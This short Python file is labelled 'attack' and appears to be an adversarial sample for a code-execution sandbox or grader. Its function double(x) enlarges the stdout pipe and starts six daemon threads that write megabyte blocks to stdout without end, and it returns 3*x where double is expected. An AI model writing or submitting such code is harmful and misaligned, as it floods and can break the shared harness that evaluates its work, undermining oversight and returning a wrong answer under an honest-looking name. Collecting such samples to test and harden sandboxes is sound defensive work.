# attack: threads that print without end, through a pipe made larger
import fcntl
import os
import threading

BLOCK = b"x" * (1 << 20)


def flood():
    while True:
        os.write(1, BLOCK)


def double(x):
    try:
        fcntl.fcntl(1, fcntl.F_SETPIPE_SZ, 1 << 20)
    except OSError:
        pass
    for _ in range(6):
        threading.Thread(target=flood, daemon=True).start()
    return 3 * x
